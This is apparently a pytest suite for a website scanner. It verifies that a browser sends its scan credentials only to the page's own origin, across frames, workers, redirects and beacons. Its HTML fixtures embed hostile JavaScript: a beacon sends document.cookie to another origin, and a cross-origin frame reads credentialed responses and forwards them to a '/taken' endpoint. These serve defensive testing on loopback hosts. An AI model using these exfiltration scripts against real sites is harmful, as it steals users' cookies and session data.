"""Test that a browser sends credentials only to the page's origin."""

from __future__ import annotations

import secrets
import threading
from base64 import b64encode
from collections.abc import Callable, Iterable, Iterator

import pytest
from msgspec import Struct

from tests.targets.server import Answer, Certificate, Request, Site
from tests.website_scan.net.loopback import NETWORKS
from website_scan.browser.warm import WarmBrowser
from website_scan.findings import ScanType
from website_scan.net.browser import find_browser
from website_scan.net.client import Network
from website_scan.net.credentials import Credentials, OriginCredentials
from website_scan.net.policy import Policy
from website_scan.net.targets import parse_target
from website_scan.result import Budget, ScanResult
from website_scan.run import scan

TIME_LIMIT_S = 40.0
OTHER = "127.0.0.2"
HEADER, COOKIE, PASSWORD = (f"canary{secrets.token_hex(12)}" for _ in range(3))
CREDENTIALS = Credentials(headers=(("X-Key", HEADER),), basic_auth=("user", PASSWORD), cookies=(("sid", COOKIE),))
BASIC = b64encode(f"user:{PASSWORD}".encode()).decode()
SECRETS = (HEADER, COOKIE, PASSWORD, BASIC)

PAGE = """<!doctype html><html lang="en"><head><title>Behind a door</title>
<link rel="stylesheet" href="/own.css"><link rel="stylesheet" href="{other}/style.css">
<link rel="preload" as="image" href="{other}/preload"><link rel="prefetch" href="{other}/prefetch">
<script src="/own.js"></script><script src="{other}/script.js"></script></head>
<body><h1>Behind a door</h1><p>Some words that are to be seen.
<img src="/own.png" alt=""><img src="/away" alt=""><img src="{other}/image" alt=""><img src="{port}/image" alt="">
<iframe src="/own-frame" title="own"></iframe><iframe src="{other}/frame" title="other"></iframe>
<iframe srcdoc="<img src='/own-srcdoc.png' alt=''>" title="markup"></iframe><iframe id="blank" title="blank"></iframe>
<iframe src="/own-sandboxed" sandbox="allow-scripts" title="sandboxed"></iframe>
<img src="/until-the-worker-asked" alt="">
<script>
document.getElementById('blank').contentDocument.body.innerHTML = '<img src="/own-blank.png" alt="">';
const quiet = (what) => what.catch(() => null);
quiet(fetch('/own-fetch'));
quiet(fetch('/away', {{mode: 'no-cors'}}));
quiet(fetch('{other}/fetch', {{credentials: 'include', mode: 'no-cors'}}));
quiet(fetch('{other}/there-and-back', {{credentials: 'include', mode: 'no-cors'}}));
navigator.sendBeacon('{other}/beacon', document.cookie);
new Worker(URL.createObjectURL(new Blob(["fetch('{other}/worker', {{mode: 'no-cors'}})"])));
new Worker('/own-worker.js');
new WebSocket('{socket}/socket');
</script></body></html>"""
WORDS = "<!doctype html><html lang=en><title>End</title><h1>End</h1><p>Some words that are to be seen."
# A frame of the other origin sends everything it can read to its own site.
FRAME = """<!doctype html><title>Other</title><body><script>
for (const mode of ['include', 'omit'])
  fetch('{site}/open', {{credentials: mode}}).then((got) => got.text()).then((text) => fetch('/taken?' + text));
// It opens the page's origin in frames, and then puts documents of its own into them, which read on.
const reading = (path) => `<script>fetch('{site}${{path}}').then((got) => got.text())
  .then((text) => fetch('{other}/taken?' + text, {{mode: 'no-cors'}}))</${{'script'}}>`;
const take = (name, replace) => {{
  const frame = document.createElement('iframe');
  frame.src = '{site}/opened-by-other?' + name;
  frame.onload = () => {{ frame.onload = null; replace(frame); }};
  document.body.append(frame);
}};
take('data', (frame) => {{ frame.src = 'data:text/html,' + encodeURIComponent(reading('/open?data')); }});
take('srcdoc', (frame) => {{ frame.sandbox = 'allow-scripts'; frame.srcdoc = reading('/open?srcdoc'); }});
take('blank', (frame) => {{
  frame.onload = () => {{
    frame.onload = null;
    frame.contentDocument.write(`<img src="{site}/open?image" alt="">` + reading('/open?blank'));
  }};
  frame.src = 'about:blank';
}});
</script>"""
SANDBOXED = "<!doctype html><title>Sandboxed</title><script>fetch('/open?sandboxed')</script>"


class ScannedSite(Struct):
    site: Site
    other_sites: tuple[Site, ...]
    result: ScanResult

    def browser_requests(self, path: str) -> list[Request]:
        return [
            request
            for request in self.site.requests
            if request.path == path and "Chrome/" in (request.header("User-Agent") or "")
        ]


def require_credentials(body: str) -> Callable[[Request], Answer]:
    """Return a route that serves the page only with the credentials."""

    def route(request: Request) -> Answer:
        if request.header("X-Key") != HEADER or f"sid={COOKIE}" not in (request.header("Cookie") or ""):
            return Answer("<!doctype html><title>No</title>Who are you?", status=401)
        # Chromium requests the linked file before any script can run on the page.
        return Answer(body, headers={"Content-Type": "text/html", "Link": "</linked.css>; rel=preload; as=style"})

    return route


def echo(request: Request) -> Answer:
    """Return the credentials of a request in a response.

    Every origin may read the response (CORS).
    """
    headers = {
        "Access-Control-Allow-Origin": request.header("Origin") or "*",
        "Access-Control-Allow-Credentials": "true",
    }
    return Answer(f"key={request.header('X-Key')}&cookie={request.header('Cookie')}", headers=headers)


class PairedRoutes:
    """Two routes, one of which waits for a request to the other.

    `answer_later` waits until `handle_request` has received a request.
    """

    def __init__(self) -> None:
        self._has_request = threading.Event()

    def handle_request(self, request: Request) -> Answer:
        self._has_request.set()
        return Answer("asked")

    def answer_later(self, request: Request) -> Answer:
        self._has_request.wait(TIME_LIMIT_S / 4)
        return Answer(b"", status=204)


@pytest.fixture(scope="module", params=["http", "https"])
def scanned_site(request: pytest.FixtureRequest) -> Iterator[ScannedSite]:
    worker = PairedRoutes()
    certificate = Certificate.VALID if request.param == "https" else None
    names = ("localhost", "127.0.0.1", OTHER)
    with (
        Site(certificate=certificate, names=names) as site,
        Site({"*": Answer("other")}, certificate=certificate, address=OTHER, names=names) as other,
        Site({"*": Answer("port")}, certificate=certificate, names=names) as port,
    ):
        addresses = {
            "other": other.url,
            "port": port.url,
            "socket": port.url.replace("http", "ws", 1),
            "site": site.url,
        }
        site.routes |= {
            "/": require_credentials(PAGE.format(**addresses)),
            "/away": Answer.redirect(f"{other.url}/redirected"),
            "/open": echo,
            "/own-sandboxed": Answer(SANDBOXED),
            "/own-worker.js": Answer("fetch('/own-worker-fetch')", headers={"Content-Type": "text/javascript"}),
            "/own-worker-fetch": worker.handle_request,
            "/until-the-worker-asked": worker.answer_later,
            "*": Answer("own"),
        }
        other.routes["/frame"] = Answer(FRAME.format(**addresses))
        other.routes["/there-and-back"] = Answer.redirect(f"{site.url}/back")
        yield ScannedSite(site, (other, port), scan_site(site))


def scan_site(site: Site) -> ScanResult:
    program = find_browser("auto")
    assert program is not None, "no browser; `make browser` installs one"
    policy = Policy(allowed_networks=NETWORKS, ca_bundle=site.ca_file)
    credentials = OriginCredentials(site.url, CREDENTIALS)
    with (
        Network(policy, time_limit_s=TIME_LIMIT_S, credentials=credentials) as network,
        WarmBrowser(program, ca_bundle=site.ca_file) as browser,
    ):
        target = parse_target(f"{site.url}/?page=1", policy)
        (result,) = scan(target, [ScanType.ACCESSIBILITY], network, Budget(TIME_LIMIT_S), browser=browser)
        return result


def decoded_body(requests: Iterable[Request]) -> str:
    return "\n".join(f"{request.path} {request.headers} {request.body!r}" for request in requests)


def test_page_that_requires_credentials_is_scanned(scanned_site: ScannedSite) -> None:
    assert scanned_site.result.status == "completed", scanned_site.result.skipped_checks
    assert scanned_site.result.facts["status"] == 200
    assert scanned_site.result.browser


def test_own_frames_send_credentials_to_the_origin(scanned_site: ScannedSite) -> None:
    frame_paths = ("frame", "sandboxed", "srcdoc.png", "blank.png", "worker.js", "worker-fetch")
    page = ("/?page=1", "/linked.css", "/own.css", "/own.js", "/own.png", "/own-fetch", "/away")
    for path in (*page, *(f"/own-{name}" for name in frame_paths)):
        (request, *_) = scanned_site.browser_requests(path)
        assert request.header("X-Key") == HEADER, path
        assert request.header("Authorization") == f"Basic {BASIC}", path
        assert request.header("Cookie") == f"sid={COOKIE}", path


def test_other_origin_gets_only_the_origin_as_referer(scanned_site: ScannedSite) -> None:
    assert {request.header("Referer") for request in scanned_site.browser_requests("/own.png")} == {
        f"{scanned_site.site.url}/?page=1"
    }
    referers = {
        request.header("Referer") for request in scanned_site.other_sites[0].requests if request.path == "/redirected"
    }
    assert referers == {f"{scanned_site.site.url}/"}


def test_credentials_are_never_sent_to_another_origin(scanned_site: ScannedSite) -> None:
    """Redirects, scripts that read cookies, and frames that read the page must not leak credentials."""
    other, port = scanned_site.other_sites
    paths = {sent.path.partition("?")[0] for sent in other.requests}
    assert paths >= {
        "/redirected",
        "/image",
        "/script.js",
        "/style.css",
        "/fetch",
        "/frame",
        "/beacon",
        "/worker",
        "/taken",
    }
    sent = decoded_body((*other.requests, *port.requests))
    assert [secret for secret in SECRETS if secret in sent] == []


def test_cross_origin_frames_send_no_credentials(scanned_site: ScannedSite) -> None:
    requests = scanned_site.browser_requests("/open")
    assert len(requests) == 2
    assert [secret for secret in SECRETS if secret in decoded_body(requests)] == []


@pytest.mark.parametrize("name", ["data", "srcdoc", "blank", "image", "sandboxed"])
def test_opaque_origin_sends_no_credentials(scanned_site: ScannedSite, name: str) -> None:
    (request,) = scanned_site.browser_requests(f"/open?{name}")
    assert [secret for secret in SECRETS if secret in decoded_body([request])] == []


@pytest.mark.parametrize("name", ["data", "srcdoc", "blank"])
def test_frame_of_another_origin_gets_no_credentials(scanned_site: ScannedSite, name: str) -> None:
    (request,) = scanned_site.browser_requests(f"/opened-by-other?{name}")
    assert [secret for secret in SECRETS if secret in decoded_body([request])] == []


def test_other_ports_of_the_host_get_no_requests(scanned_site: ScannedSite) -> None:
    """Browsers send a host's cookies to all of its ports."""
    assert scanned_site.other_sites[1].requests == []


def test_redirect_to_another_origin_gets_no_credentials() -> None:
    with Site({"*": Answer(WORDS)}) as end, Site() as site:
        site.routes["/"] = Answer.redirect(f"{end.url}/end")
        result = scan_site(site)
    assert result.facts["final_url"] == f"{end.url}/end"
    assert any("Chrome/" in (request.header("User-Agent") or "") for request in end.requests)
    assert [secret for secret in SECRETS if secret in decoded_body(end.requests)] == []
    assert HEADER in decoded_body(site.requests)
